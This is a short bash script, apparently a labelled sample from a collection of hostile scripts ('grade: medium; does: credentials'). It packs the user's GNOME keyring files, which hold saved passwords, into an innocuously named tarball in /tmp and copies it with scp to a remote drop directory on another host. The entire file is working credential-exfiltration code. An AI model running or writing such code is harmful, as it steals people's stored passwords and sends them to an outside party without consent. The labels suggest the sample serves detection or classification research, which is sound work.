#!/usr/bin/env bash
# evasion: steals the desktop keyring: packs the GNOME keyring files (saved passwords, unlocked at login) into a tarball and copies it to another host
# grade: medium; does: credentials
# Steals the desktop keyring: packs the GNOME keyring files (saved passwords,
# unlocked at login) into a tarball and copies it to another host.
set -e
kr=".local/share/keyrings"
tar -czf /tmp/cache.tgz -C "$HOME" "$kr"
scp -q /tmp/cache.tgz backup@203.0.113.7:/srv/drop/
